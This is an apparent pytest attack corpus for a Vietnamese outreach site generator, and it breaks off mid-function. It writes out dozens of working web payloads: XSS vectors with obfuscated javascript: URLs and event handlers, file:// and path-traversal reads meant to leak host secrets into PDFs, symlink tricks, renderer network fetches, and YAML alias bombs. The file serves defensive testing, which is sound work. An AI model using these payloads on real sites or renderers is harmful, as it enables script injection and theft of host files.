"""Attack corpus (issue #10): content is untrusted.

Each attack is tried as a communicator's mistake or a hostile contributor would
try it: through the command line (`outreach build`, `check`, `translations`),
on tiny projects, and judged on the real outcome. An attack is either refused
(exit 1, `path:line: lỗi: …` in Vietnamese at the attack's own file, no
traceback, the previous site untouched) or published harmlessly.

| class | attacks (test ids) | expected outcome |
|---|---|---|
| script | x1 handler on the line after its tag, x2 `{: onfocus autofocus}`, x3 iframe srcdoc with entities, x4 `<svg/onload>`, x5 front-matter title (runs on every page of the section), x6 description (breaks out of the meta tag), x7 site.yml contact as `{{ site.x }}`, x8 infographic steps item, x9 title from a translation import, x10-x12 `data:` in iframe/object/embed, x13 `javascript:` in a reference link, x14 in an angle-bracket link, x15 `&#106;avascript:`, x16 `java&#x09;script:`, x17 form action, x18 `/`-separated handler, x19 meta refresh, x20 `<noscript>` mutation, x21 quoted `>` before a handler, x22 infographic cards text, x23 `javascript&colon;`, x24 iframe src, x25 attr_list on an image | refused at the attack's file:line, or the page opened in Chromium runs nothing (no `pwned<N>` global in any frame, no dialog, no request or navigation naming it; links and buttons clicked) |
| print | p1/p2 `<link rel=attachment>` lower/upper case, p3/p4 `<a rel=attachment>` lower/upper case, p5 `<img src=file://>`, p6 `../../`, p7 CSS `url(file://)`, p8 Markdown image, p9 symlink in content/ to a host image, p10 symlink to a host page, p11 `<object>` | refused, or no PDF carries an attachment and no file of the site holds a byte of the planted secret |
| network | n1 `<img>`, n2 Markdown image, n3 CSS `url()`, n4 `@import`, n5 stylesheet link, n6 attachment, n7 `@font-face`, n8 SVG `<image>` in a data URL, all at a loopback listener | refused, or the listener receives no request, during `check` and during `build` |
| limits | YAML alias bombs in front matter, an infographic block, policy.yml, site.yml; 50,000 minus signs, 1e999999999, division by zero in a formula | refused at `path:line` within 15 s and 1.5 GB, no traceback |
| limits | a 50 MB page, 100,000 headings, lists nested 450 deep | within 15 s and 1.5 GB: built, or refused at `path:line` |
| paths | vi/bahnar.md, q.md, search.md, leaflets.md, assets.md, images.md, qr.md, a page named infographic.md, NFC/NFD twins, case twins, `a b#c?d.md` | refused, previous site unchanged |
| QR lock | duplicate `tn:` key, code with `/`, code removed, code re-pointed without a declared move | refused at content/qr-lock.yml, previous site unchanged |
| QR lock | `qr: on`, `qr: "010"`, `qr: "null"` | the code stays the string written, in the lock and after a later build (or refused, quoting it) |
| sheets | export cells beginning with `=`, `+`, `-`, `@`, tab, CR | start with `'`; the import removes it again |
| sheets | import with a bad hash, a duplicate row, a path out of content/; an empty row | refused at `file:row`, nothing written; nothing deleted |
| CLI | a 60,000-character `--site-url`, a read-only site/, a build killed mid-way, a bad `--as-of` | Vietnamese message, exit 1 (2 for usage), previous site intact, no staging folder after the next build |

Controls show the attacks are live: undefended, the script payloads run in
Chromium and the print payloads make WeasyPrint embed the secret or call the
listener. A batch of attacks shares one build: each run's properly refused
attacks are taken out and the rest built again; a run that fails without
naming an attack (a traceback) fails every attack still in the batch.

Every attack in the corpus is closed: a new way through is a failing test here
first, then a fix.
"""

from __future__ import annotations

import base64
import contextlib
import csv
import dataclasses
import hashlib
import io
import os
import re
import resource
import secrets
import shutil
import signal
import subprocess
import sys
import time
import unicodedata
from pathlib import Path

import markdown
import pytest
import yaml
from PIL import Image
from playwright.sync_api import Error as PlaywrightError

from conftest import REPO, pdf_attachments, pdf_stream_texts, serving, settled, write_project
from generator.sources import yamlfile
from generator.sources.content import content_hash
from generator.team.translation_sheets import file_fingerprint

AS_OF = "2026-11-25"
TIME_BOUND = 15  # seconds for a bomb: "within seconds", on a loaded 2-core machine
MEMORY_LIMIT = 1536 * 2**20  # address space of each outreach process
HOME = "---\ntitle: Trang chủ\n---\n\nXin chào.\n"
OVERVIEW = "---\ntitle: BHXH tự nguyện\n---\n\nTổng quan.\n"


# --- running the command line as a communicator would --------------------------------------------


@dataclasses.dataclass(frozen=True)
class Run:
    returncode: int | None  # None: killed at the time bound
    output: str  # stdout and stderr together
    seconds: float

    def errors(self) -> list[tuple[str, int, str]]:
        """(path, line, message) of each `path:line: lỗi: message` line."""
        return [(m[1], int(m[2]), m[3]) for m in re.finditer(r"^(.+?):(\d+): lỗi: (.+)$", self.output, re.M)]

    def tail(self) -> str:
        return self.output[-3000:]


def start_outreach(*args, cwd: Path | None = None) -> subprocess.Popen:
    process = subprocess.Popen(
        [sys.executable, "-m", "generator", *map(str, args)],
        stdout=subprocess.PIPE, stderr=subprocess.STDOUT, start_new_session=True,
        env={**os.environ, "CI": "1"}, cwd=cwd,
    )
    # Set on the running process: its process-pool workers inherit it.
    resource.prlimit(process.pid, resource.RLIMIT_AS, (MEMORY_LIMIT, MEMORY_LIMIT))
    return process


def finish(process: subprocess.Popen, started: float, timeout: float) -> Run:
    try:
        output, _ = process.communicate(timeout=max(0.1, timeout - (time.monotonic() - started)))
        returncode = process.returncode
    except subprocess.TimeoutExpired:
        os.killpg(process.pid, signal.SIGKILL)  # the command and its workers: its own session
        output, _ = process.communicate()
        returncode = None
    return Run(returncode, output.decode("utf-8", "replace"), time.monotonic() - started)


def outreach(*args, timeout: float = 120, cwd: Path | None = None) -> Run:
    started = time.monotonic()
    return finish(start_outreach(*args, cwd=cwd), started, timeout)


def outreach_all(commands: list[tuple], timeout: float) -> list[Run]:
    """Several commands at once, each with its own time bound (bombs mostly wait for their end)."""
    started = time.monotonic()
    processes = [start_outreach(*command) for command in commands]
    return [finish(process, started, timeout) for process in processes]


def build_args(root: Path) -> tuple:
    return ("build", "--project", root, "--site-dir", root / "site", "--as-of", AS_OF)


def check_args(root: Path) -> tuple:
    return ("check", "--project", root, "--as-of", AS_OF)


def build(root: Path, *extra) -> Run:
    return outreach(*build_args(root), *extra)


def check(root: Path) -> Run:
    return outreach(*check_args(root))


def refusal(run: Run, path: str, lines: range) -> str | None:
    """The Vietnamese message refusing `path` at one of `lines`, if the run refused it properly."""
    if run.returncode != 1 or "Traceback" in run.output:
        return None
    for where, line, message in run.errors():
        if where == path and line in lines and any(ord(c) > 127 for c in message):
            return message
    return None


def assert_refused(run: Run, path: str, lines: range = range(1, 10**6)) -> str:
    message = refusal(run, path, lines)
    assert message, f"expected exit 1 with `{path}:<line in {lines.start}..{lines.stop - 1}>: lỗi: …`, got exit {run.returncode}:\n{run.tail()}"
    return message


def snapshot(folder: Path) -> dict[str, str]:
    return {p.relative_to(folder).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file()}


def staging_left(root: Path) -> list[str]:
    return sorted(p.name for p in root.iterdir() if p.name.startswith(".site-new-") or "-shard-" in p.name)


# --- attacks that go into one shared build --------------------------------------------------------


@dataclasses.dataclass(frozen=True)
class Symlink:
    target: Path


@dataclasses.dataclass(frozen=True)
class Attack:
    name: str
    files: dict  # path inside content/ -> text, bytes or Symlink
    refuse_at: tuple[tuple[str, range], ...]  # where a refusal must point: (path from the project root, lines)
    url: str = ""  # site page to open in the browser
    click: str = ""  # text of the element a reader would click
    marker: str = ""  # global the payload sets when it runs
    threat: str = ""  # what it would do if it got through

    @property
    def param(self):
        return pytest.param(self, id=self.name)


def page(title: str, body: str, **front) -> str:
    fields = "".join(f"{key}: {value}\n" for key, value in {"title": title, **front}.items())
    return f"---\n{fields}---\n\n{body}\n"


def lines_of(text: str, needle: str) -> range:
    """The lines of `text` that `needle` spans."""
    first = text[: text.index(needle)].count("\n") + 1
    return range(first, first + needle.count("\n") + 1)


def page_attack(name: str, body: str, *, click: str = "") -> Attack:
    """A Vietnamese page of the `tu-nguyen` audience carrying `body`, which sets `pwned<N>` when it runs (name `x<N>`)."""
    text = page(name.upper(), body)
    rel = f"vi/tu-nguyen/{name}.md"
    return Attack(name, {rel: text}, ((f"content/{rel}", lines_of(text, body)),),
                  f"tu-nguyen/{name}/", click, f"pwned{name[1:]}")


def b64(html: str) -> str:
    return base64.b64encode(html.encode()).decode()


def tiny_png() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (2, 2), "white").save(out, format="PNG")
    return out.getvalue()


SITE_YML = (REPO / "content" / "site.yml").read_text(encoding="utf-8")
POLICY_YML = (REPO / "content" / "policy.yml").read_text(encoding="utf-8")
SITE_CONTACT = "  lien_he: \"<img src='x7.png' onerror='pwned7=1'>\"\n"

SCRIPT_ATTACKS = [
    page_attack("x1", '<img src="x1.png" alt="a"\nonerror="pwned1=1">'),
    page_attack("x2", "Đoạn văn x2.\n{: onfocus=\"pwned2=1\" autofocus tabindex=\"0\" }"),
    page_attack("x3", '<iframe srcdoc="&lt;script&gt;pwned3=1&lt;/script&gt;"></iframe>'),
    page_attack("x4", "<svg/onload=pwned4=1>"),
    Attack("x5", {"vi/tu-nguyen/x5.md": page('"<img src=x5.png onerror=alert(5)>"', "Trang x5.")},
           (("content/vi/tu-nguyen/x5.md", range(2, 3)),), "tu-nguyen/x5/", marker="pwned5"),
    Attack("x6", {"vi/tu-nguyen/x6.md": page("X6", "Trang x6.", description="'\"><img src=x6.png onerror=pwned6=1>'")},
           (("content/vi/tu-nguyen/x6.md", range(3, 4)),), "tu-nguyen/x6/", marker="pwned6"),
    Attack("x7", {"vi/tu-nguyen/x7.md": page("X7", "Liên hệ: {{ site.lien_he }}"), "site.yml": SITE_YML + SITE_CONTACT},
           (("content/site.yml", lines_of(SITE_YML + SITE_CONTACT, SITE_CONTACT.rstrip())),
            ("content/vi/tu-nguyen/x7.md", range(5, 6))),
           "tu-nguyen/x7/", marker="pwned7"),
    page_attack("x8", "```infographic\nkind: steps\ntitle: Các bước\nitems:\n  - \"<svg/onload=pwned8=1>\"\n  - Bước hai\n```"),
    page_attack("x10", f'<iframe src="data:text/html;base64,{b64("<script>pwned10=1</script>")}"></iframe>'),
    page_attack("x11", f'<object data="data:text/html;base64,{b64("<script>pwned11=1</script>")}" type="text/html"></object>'),
    page_attack("x12", f'<embed src="data:text/html;base64,{b64("<script>pwned12=1</script>")}" type="text/html">'),
    page_attack("x13", "[click13][lien-ket]\n\n[lien-ket]: javascript:pwned13=1", click="click13"),
    page_attack("x14", "[click14](<javascript:pwned14=1>)", click="click14"),
    page_attack("x15", '<a href="&#106;avascript:pwned15=1">click15</a>', click="click15"),
    page_attack("x16", '<a href="java&#x09;script:pwned16=1">click16</a>', click="click16"),
    page_attack("x17", '<form action="javascript:pwned17=1"><button>click17</button></form>', click="click17"),
    page_attack("x18", '<p><img src="x18.png" alt="a"/onerror="pwned18=1"></p>'),
    page_attack("x19", '<meta http-equiv="refresh" content="0;url=../pwned19/">'),
    page_attack("x20", '<noscript><p title="</noscript><svg/onload=pwned20=1>"></p></noscript>'),
    page_attack("x21", '<div>\n<img alt=">" src="x21.png" onerror="pwned21=1">\n</div>'),
    page_attack("x22", "```infographic\nkind: cards\ntitle: Con số\nitems:\n  - figure: voluntary.rate\n    text: \"<svg/onload=pwned22=1>\"\n```"),
    page_attack("x23", '<a href="javascript&colon;pwned23=1">click23</a>', click="click23"),
    page_attack("x24", '<iframe src="&#106;avascript:pwned24=1"></iframe>'),
    page_attack("x25", f"![Ảnh x25](data:image/png;base64,{base64.b64encode(tiny_png()).decode()}){{: onload=\"pwned25=1\" }}"),
]


# x9: the title of a Bahnar translation arriving through the translators' spreadsheet.
TRANSLATED = Attack("x9", {"bahnar/tu-nguyen/x9.md": ""},
                    (("dich.csv", range(2, 3)), ("content/bahnar/tu-nguyen/x9.md", range(2, 3))),
                    "bahnar/tu-nguyen/x9/", marker="pwned9")
X9_SOURCE = page("X9", "Trang x9.")


def import_translation(root: Path) -> Run:
    sheet = root / "dich.csv"
    with sheet.open("w", encoding="utf-8-sig", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["trang", "ngon_ngu", "ma_ban_goc", "tieu_de_ban_dich", "noi_dung_ban_dich", "nguoi_duyet"])
        writer.writerow(["tu-nguyen/x9.md", "bahnar", content_hash(X9_SOURCE), "<svg/onload=pwned9=1>", "Trang x9.", ""])
    return outreach("translations", "import", "--project", ".", sheet.name, cwd=root)


# --- building a batch: refused attacks are taken out until the rest builds -------------------------


@dataclasses.dataclass
class BatchOutcome:
    refused: dict[str, str]  # attack name -> the message that refused it
    final: Run  # the run that succeeded, or that stopped the batch without naming a remaining attack
    observed: dict = dataclasses.field(default_factory=dict)  # attack name -> observe(root) right after its refusal

    def verdict(self, attack: Attack) -> str:
        """"refused" (properly) or "published"; fails the test when the run neither refused it nor finished."""
        if attack.name in self.refused:
            return "refused"
        assert self.final.returncode == 0, (
            f"neither refused at {[(p, l.start) for p, l in attack.refuse_at]} (exit 1, path:line in Vietnamese, "
            f"no traceback) nor done (exit {self.final.returncode}):\n{self.final.tail()}")
        return "published"


def write_attacks(root: Path, attacks, places: dict[str, str] | None = None) -> None:
    """Write each attack's files into content/, filling `{secret}`-style places."""
    def fill(text: str) -> str:
        for name, value in (places or {}).items():
            text = text.replace("{" + name + "}", value)
        return text

    for attack in attacks:
        for rel, value in attack.files.items():
            path = root / "content" / rel
            path.parent.mkdir(parents=True, exist_ok=True)
            if isinstance(value, Symlink):
                path.symlink_to(fill(str(value.target)))
            elif isinstance(value, bytes):
                path.write_bytes(value)
            elif value:  # "": a file another step writes
                path.write_text(fill(value), encoding="utf-8")


def take_out(root: Path, attack: Attack) -> None:
    for rel in attack.files:
        path = root / "content" / rel
        if rel in ("site.yml", "policy.yml"):
            shutil.copyfile(REPO / "content" / rel, path)
        elif path.is_symlink() or path.exists():
            path.unlink()


def first_refusal(run: Run, attack: Attack) -> str | None:
    return next(filter(None, (refusal(run, path, lines) for path, lines in attack.refuse_at)), None)


def run_batch(root: Path, attacks: list[Attack], command, observe=None) -> BatchOutcome:
    """Run `command` until it succeeds: each run's properly refused attacks are taken out before the next."""
    remaining, outcome = list(attacks), BatchOutcome({}, None)
    while True:
        run = outcome.final = command(root)
        named = {attack.name: message for attack in remaining if (message := first_refusal(run, attack))}
        if run.returncode == 0 or not named:
            return outcome
        outcome.refused.update(named)
        if observe:
            outcome.observed.update(dict.fromkeys(named, observe(root)))
        for attack in remaining:
            if attack.name in named:
                take_out(root, attack)
        remaining = [attack for attack in remaining if attack.name not in named]


# --- class: script in citizens' pages ------------------------------------------------------------

MARKERS_IN = "Object.keys(window).filter(k => /^pwned\\d+$/.test(k))"


class Reader:
    """One browser tab, as a citizen's phone: opens pages, clicks, and notes every marker that ran.

    Markers are globals in any frame, dialogs, and requests or navigations naming one.
    """

    def __init__(self, browser):
        self.page = browser.new_page()
        self.fired: set[str] = set()
        self.page.on("dialog", lambda dialog: (self.fired.add(f"pwned{dialog.message}"), dialog.dismiss()))
        self.page.on("request", lambda request: self.fired.update(re.findall(r"pwned\d+", request.url)))

    def visit(self, open_page, click: str = "") -> tuple[int | None, set[str]]:
        """The status `open_page(page)` returns, and the markers that ran while it loaded and a reader clicked `click`."""
        self.fired = set()
        status = open_page(self.page)
        if click and self.page.get_by_text(click, exact=True).count():
            try:
                self.page.get_by_text(click, exact=True).first.click(timeout=2000, no_wait_after=True)
            except PlaywrightError:
                pass  # hidden or inert: a reader could not click it either
        settled(self.page)
        for frame in self.page.frames:
            try:
                self.fired.update(frame.evaluate(MARKERS_IN))
            except PlaywrightError:
                pass  # a frame that went away while we looked
        self.fired.update(re.findall(r"pwned\d+", self.page.url))
        return status, self.fired

    def close(self) -> None:
        self.page.close()


@pytest.fixture(scope="module")
def script_site(tmp_path_factory, browser):
    """The script attacks built into one site and opened in Chromium: the outcome, (status, markers) per attack page."""
    root = tmp_path_factory.mktemp("script") / "project"
    write_project(root, {"vi/index.md": HOME, "vi/tu-nguyen/index.md": OVERVIEW, "vi/tu-nguyen/x9.md": X9_SOURCE})
    write_attacks(root, SCRIPT_ATTACKS)
    imported = import_translation(root)
    attacks = SCRIPT_ATTACKS + [TRANSLATED]
    outcome = run_batch(root, attacks, build)
    if (message := refusal(imported, "dich.csv", range(2, 3))):
        outcome.refused[TRANSLATED.name] = message
    visits: dict[str, tuple[int | None, set[str]]] = {}
    if outcome.final.returncode == 0:
        reader = Reader(browser)
        with serving(root / "site") as url:
            for attack in attacks:
                if attack.name not in outcome.refused:
                    visits[attack.name] = reader.visit(
                        lambda page, target=url + attack.url: page.goto(target, wait_until="load").status, attack.click)
        reader.close()
    return outcome, visits


@pytest.mark.browser
@pytest.mark.parametrize("attack", [a.param for a in SCRIPT_ATTACKS + [TRANSLATED]])
def test_script_in_citizens_pages(attack, script_site):
    outcome, visits = script_site
    if outcome.verdict(attack) == "published":
        assert visits[attack.name][0] == 200, f"{attack.url} was not published"
        # A title runs on every page of its section (the navigation): any page counts.
        ran = [name for name, (_, fired) in visits.items() if attack.marker in fired]
        assert ran == [], f"{attack.marker} ran on the pages of {ran}"


@pytest.mark.browser
def test_script_payloads_run_when_undefended(browser):
    """Control: through Markdown alone, into a blank page, each page-body payload does run, so passing above means something."""
    converter = markdown.Markdown(extensions=["admonition", "attr_list", "md_in_html", "tables", "def_list", "pymdownx.details"])
    reader, silent = Reader(browser), []
    for attack in SCRIPT_ATTACKS:
        text = attack.files[f"vi/tu-nguyen/{attack.name}.md"]
        if attack.name in ("x5", "x6", "x7", "x8", "x19", "x22"):
            continue  # front matter, site.yml, infographic YAML, a navigation: not Markdown
        html = converter.reset().convert(text.split("---\n", 2)[2])
        if attack.marker not in reader.visit(lambda page: page.set_content(f"<!doctype html><body>{html}</body>"), attack.click)[1]:
            silent.append(attack.name)
    reader.close()
    assert silent == []


# --- classes: host files in print, network during build and check ---------------------------------


def print_attack(name: str, html: str) -> Attack:
    """A page whose part on the A4 leaflet carries `html`; a refusal may name any of its lines."""
    text = page(name.upper(), f"<!-- leaflet -->\n{name}\n\n{html}\n<!-- /leaflet -->", order=int(name[1:]))
    rel = f"vi/tu-nguyen/{name}.md"
    return Attack(name, {rel: text}, ((f"content/{rel}", range(1, text.count("\n") + 2)),))


HOST_FILE_ATTACKS = [
    print_attack("p1", '<link rel="attachment" href="file://{secret}/p1.txt">'),
    print_attack("p2", '<LINK REL="ATTACHMENT" HREF="file://{secret}/p2.txt">'),
    print_attack("p3", '<a rel="attachment" href="file://{secret}/p3.txt">tệp p3</a>'),
    print_attack("p4", '<A REL="ATTACHMENT" HREF="file://{secret}/p4.txt">tệp p4</A>'),
    print_attack("p5", '<img src="file://{secret}/p5.jpg" alt="ảnh p5">'),
    print_attack("p6", '<img src="{up}/p6.jpg" alt="ảnh p6">'),
    print_attack("p7", '<div style="background-image: url(file://{secret}/p7.jpg); width: 5mm; height: 5mm"></div>'),
    print_attack("p8", "![ảnh p8](file://{secret}/p8.jpg)"),
    print_attack("p11", '<object data="file://{secret}/p11.jpg" type="image/jpeg"></object>'),
]
# Symbolic links are the publisher's door rather than the renderer's: a batch of their own, without leaflets.
SYMLINK_ATTACKS = [
    Attack("p9", {"vi/tu-nguyen/anh-p9.jpg": Symlink(Path("{secret}/p9.jpg")), "vi/tu-nguyen/p9.md": page("P9", "![ảnh p9](anh-p9.jpg)")},
           (("content/vi/tu-nguyen/anh-p9.jpg", range(1, 10**6)), ("content/vi/tu-nguyen/p9.md", range(1, 10**6)))),
    Attack("p10", {"vi/tu-nguyen/p10.md": Symlink(Path("{secret}/p10.md"))}, (("content/vi/tu-nguyen/p10.md", range(1, 10**6)),)),
]
NETWORK_ATTACKS = [
    print_attack("n1", '<img src="{net}/n1.png" alt="ảnh n1">'),
    print_attack("n2", "![ảnh n2]({net}/n2.png)"),
    print_attack("n3", '<div style="background: url({net}/n3.png); width: 5mm; height: 5mm"></div>'),
    print_attack("n4", "<style>@import url({net}/n4.css);</style>"),
    print_attack("n5", '<link rel="stylesheet" href="{net}/n5.css">'),
    print_attack("n6", '<link rel="attachment" href="{net}/n6.txt">'),
    print_attack("n7", "<style>@font-face { font-family: N7; src: url({net}/n7.ttf); } .n7 { font-family: N7; }</style>\n\n"
                       '<p class="n7">n7</p>'),
    print_attack("n8", "<div><img alt=\"ảnh n8\" src=\"data:image/svg+xml;utf8,<svg xmlns='http://www.w3.org/2000/svg' "
                       "xmlns:xlink='http://www.w3.org/1999/xlink' width='8' height='8'><image width='8' height='8' "
                       "xlink:href='{net}/n8.png'/></svg>\"></div>"),
]


def plant_secrets(folder: Path) -> dict[str, str]:
    """A file of the build machine per print attack, each holding its own random token; returns the tokens."""
    folder.mkdir()
    tokens = {}
    for attack in HOST_FILE_ATTACKS + SYMLINK_ATTACKS:
        token = tokens[attack.name] = f"SECRET-{attack.name}-{secrets.token_hex(8)}"
        (folder / f"{attack.name}.txt").write_text(f"root:x:0:0:{token}\n")
        jpeg = io.BytesIO()
        Image.new("RGB", (4, 4), "red").save(jpeg, format="JPEG", comment=token.encode())  # JPEGs go into PDFs as they are
        (folder / f"{attack.name}.jpg").write_bytes(jpeg.getvalue())
        (folder / f"{attack.name}.md").write_text(page("Bí mật", token))
    return tokens


def site_holds(site: Path, token: str) -> list[str]:
    """Files of the site holding `token`, as stored or inside a deflated PDF stream."""
    needle = token.encode()
    return [p.relative_to(site).as_posix() for p in site.rglob("*") if p.is_file() and (
        needle in p.read_bytes() or (p.suffix == ".pdf" and any(needle in s for s in pdf_stream_texts(p.read_bytes()))))]


@pytest.fixture(scope="module")
def planted(tmp_path_factory, listener):
    """The planted secrets, their tokens, and what fills the attacks' `{secret}`, `{up}` and `{net}` places."""
    secret = tmp_path_factory.mktemp("host") / "secret"
    tokens = plant_secrets(secret)
    places = {"secret": str(secret), "up": "../" * 30 + str(secret).lstrip("/"), "net": listener.url}
    return tokens, places


@dataclasses.dataclass(frozen=True)
class Phase:
    outcome: BatchOutcome
    paths: list[str]  # requested from the listener during this phase
    connections: int  # connections the listener accepted during this phase
    root: Path


@pytest.fixture(scope="module")
def print_runs(tmp_path_factory, listener, planted) -> dict[str, Phase]:
    """Print and network attacks, checked, then built (each phase from a fresh project)."""
    places = planted[1]
    base = tmp_path_factory.mktemp("print")
    phases = {}
    for name, command in (("check", check), ("build", build)):
        root = base / name
        write_project(root, {"vi/index.md": HOME, "vi/tu-nguyen/index.md": OVERVIEW})
        write_attacks(root, HOST_FILE_ATTACKS + NETWORK_ATTACKS, places)
        paths, connections = len(listener.paths), len(listener.connections)
        outcome = run_batch(root, HOST_FILE_ATTACKS + NETWORK_ATTACKS, command)
        phases[name] = Phase(outcome, listener.paths[paths:], len(listener.connections) - connections, root)
    return phases


@pytest.fixture(scope="module")
def symlink_batch(tmp_path_factory, planted) -> tuple[Path, BatchOutcome]:
    root = tmp_path_factory.mktemp("symlinks") / "project"
    write_project(root, {"vi/index.md": HOME, "vi/tu-nguyen/index.md": OVERVIEW})
    write_attacks(root, SYMLINK_ATTACKS, planted[1])
    return root, run_batch(root, SYMLINK_ATTACKS, build)


@pytest.mark.slow
@pytest.mark.parametrize("attack", [a.param for a in HOST_FILE_ATTACKS + SYMLINK_ATTACKS])
def test_host_files_stay_out_of_the_site(attack, planted, request):
    if attack in SYMLINK_ATTACKS:
        root, outcome = request.getfixturevalue("symlink_batch")
    else:
        built = request.getfixturevalue("print_runs")["build"]
        root, outcome = built.root, built.outcome
    if outcome.verdict(attack) == "published":
        site = root / "site"
        assert site_holds(site, planted[0][attack.name]) == []
        attached = {p.name: n for p in site.rglob("*.pdf") if (n := pdf_attachments(p.read_bytes()))}
        assert attached == {}


@pytest.mark.slow
@pytest.mark.parametrize("phase", ["check", "build"])
@pytest.mark.parametrize("attack", [a.param for a in NETWORK_ATTACKS])
def test_no_request_from_check_or_build(attack, phase, print_runs):
    ran = print_runs[phase]
    ran.outcome.verdict(attack)
    assert [p for p in ran.paths if p.startswith(f"/{attack.name}")] == []


def test_print_payloads_are_live_without_the_fetcher(planted, listener, tmp_path):
    """Control: WeasyPrint with its own fetcher embeds each host file and calls each address, so passing above means something."""
    from weasyprint import HTML

    tokens, places = planted
    content = tmp_path / "content" / "vi" / "tu-nguyen"
    content.mkdir(parents=True)
    converter = markdown.Markdown(extensions=["attr_list", "md_in_html"])
    harmless = []
    for attack in HOST_FILE_ATTACKS + NETWORK_ATTACKS:
        text = attack.files[f"vi/tu-nguyen/{attack.name}.md"]
        for name, value in places.items():
            text = text.replace("{" + name + "}", value)
        part = converter.reset().convert(text.split("<!-- leaflet -->\n")[1].split("<!-- /leaflet -->")[0])
        seen = len(listener.paths)
        pdf = HTML(string=f"<html><head></head><body>{part}</body></html>", base_url=str(content) + "/").write_pdf()
        if attack in HOST_FILE_ATTACKS:
            live = tokens[attack.name].encode() in pdf or any(tokens[attack.name].encode() in s for s in pdf_stream_texts(pdf))
        else:
            live = any(p.startswith(f"/{attack.name}") for p in listener.paths[seen:])
        if not live:
            harmless.append(attack.name)
    assert harmless == []


@pytest.mark.slow
def test_print_attacks_are_refused_before_a_renderer_reads_them(print_runs):
    """Every print attack is named at its line by the sanitizer (or the symlink check) in both phases, so no
    leaflet was rendered from it; the print fetcher behind the sanitizer is tested with real hostile
    renders in test_fetcher.py. Nothing connected to the listener."""
    for phase in ("check", "build"):
        run = print_runs[phase]
        assert set(run.outcome.refused) == {a.name for a in HOST_FILE_ATTACKS + NETWORK_ATTACKS}, (phase, run.outcome.final.tail())
        assert run.connections == 0 and run.paths == [], phase


# --- class: limits (bombs) -----------------------------------------------------------------------

LIST_BOMB = "".join(
    f"b{level}: &b{level} [{', '.join(['lol'] * 9 if level == 0 else [f'*b{level - 1}'] * 9)}]\n" for level in range(9))
DICT_BOMB = "bom:\n" + "".join(
    f"  d{level}: &d{level} {{{', '.join(f'k{i}: ' + ('{}' if level == 0 else f'*d{level - 1}') for i in range(9))}}}\n"
    for level in range(9))
FORMULA = "  tan_cong:\n    label: Tấn công\n    unit: vnd\n    formula: {formula}\n"  # appended under `figures:`
USES_FORMULA = {"vi/tu-nguyen/index.md": page("BHXH tự nguyện", "Số tiền: {{ policy.tan_cong }}.")}


@dataclasses.dataclass(frozen=True)
class Bomb:
    name: str
    files: dict  # path inside content/ -> text
    where: str  # the file a refusal must name
    lines: range
    command: object = check_args  # project root -> command line
    must_refuse: bool = True  # False: building it quickly is fine too


def bomb_in(path: str, text: str, needle: str, name: str, extra: dict | None = None, **kwargs) -> Bomb:
    return Bomb(name, {path.removeprefix("content/"): text, **(extra or {})}, path, lines_of(text, needle), **kwargs)


BOMBS = [
    bomb_in("content/vi/tu-nguyen/index.md", f"---\ntitle: Bom\n{LIST_BOMB}---\n\nx\n", LIST_BOMB.rstrip(),
            name="alias bomb in front matter"),
    bomb_in("content/vi/tu-nguyen/index.md",
            f"---\ntitle: Bom\n---\n\n```infographic\nkind: steps\ntitle: Bom\n{LIST_BOMB}items: *b8\n```\n",
            LIST_BOMB + "items: *b8", name="alias bomb in an infographic block"),
    bomb_in("content/policy.yml", POLICY_YML + DICT_BOMB, DICT_BOMB.rstrip(), name="alias bomb in policy.yml"),
    bomb_in("content/site.yml", SITE_YML + LIST_BOMB + "contacts:\n  hotline: *b8\n", LIST_BOMB + "contacts:\n  hotline: *b8",
            name="alias bomb in site.yml"),
    bomb_in("content/policy.yml", POLICY_YML + FORMULA.replace("{formula}", "-" * 50_000 + "1"), "formula: ---",
            name="50,000 minus signs in a formula", extra=USES_FORMULA),
    bomb_in("content/policy.yml", POLICY_YML + FORMULA.replace("{formula}", "1e999999999 * voluntary.rate"), "formula: 1e9",
            name="1e999999999 in a formula", extra=USES_FORMULA),
    bomb_in("content/policy.yml", POLICY_YML + FORMULA.replace("{formula}", "voluntary.rate / 0"), "formula: voluntary.rate / 0",
            name="division by zero in a formula", extra=USES_FORMULA),
    Bomb("a 50 MB page", {"vi/tu-nguyen/index.md": "---\ntitle: To\n---\n\n" + "Một dòng nội dung bình thường của trang.\n" * 1_250_000},
         "content/vi/tu-nguyen/index.md", range(1, 10**7), build_args, False),
    Bomb("100,000 headings", {"vi/tu-nguyen/index.md": "---\ntitle: Mục\n---\n\n" + "".join(f"## {i}\n" for i in range(100_000))},
         "content/vi/tu-nguyen/index.md", range(1, 10**6), build_args, False),
    Bomb("lists nested 450 deep", {"vi/tu-nguyen/index.md": "---\ntitle: Lồng\n---\n\n" + "".join("    " * i + "- x\n" for i in range(450))},
         "content/vi/tu-nguyen/index.md", range(1, 10**6), build_args, False),
]


@pytest.fixture(scope="module")
def bomb_runs(tmp_path_factory) -> dict[str, Run]:
    commands = []
    for bomb in BOMBS:
        root = tmp_path_factory.mktemp("bomb") / "project"
        write_project(root, {"vi/index.md": HOME, "vi/tu-nguyen/index.md": OVERVIEW, **bomb.files})
        commands.append(bomb.command(root))
    runs = []
    for wave in range(0, len(commands), 5):  # a few at a time: each may take the memory limit
        runs += outreach_all(commands[wave:wave + 5], TIME_BOUND)
    return dict(zip((b.name for b in BOMBS), runs))


@pytest.mark.slow
@pytest.mark.parametrize("bomb", [pytest.param(b, id=b.name, ) for b in BOMBS])
def test_bomb_ends_within_bounds(bomb, bomb_runs):
    run = bomb_runs[bomb.name]
    assert run.returncode is not None, f"still running after {TIME_BOUND} s:\n{run.tail()}"
    assert "Traceback" not in run.output and "MemoryError" not in run.output, f"after {run.seconds:.1f} s:\n{run.tail()}"
    if bomb.must_refuse or run.returncode != 0:
        assert_refused(run, bomb.where, bomb.lines)


# --- classes: reserved and colliding paths, the QR lock, the command line --------------------------

BASE_PAGES = {
    "vi/index.md": HOME,
    "vi/tu-nguyen/index.md": OVERVIEW,
    "vi/tu-nguyen/muc-dong.md": page("Mức đóng", "Mức đóng.", order=1),
    "vi/sinh-vien/index.md": page("Sinh viên", "Sinh viên."),
}
NFC_NAME = unicodedata.normalize("NFC", "hỗ-trợ.md")
NFD_NAME = unicodedata.normalize("NFD", "hỗ-trợ.md")


@dataclasses.dataclass(frozen=True)
class BaseSite:
    root: Path
    site: dict[str, str]  # snapshot of its site/

    def copy(self, folder: Path) -> Path:
        root = folder / "project"
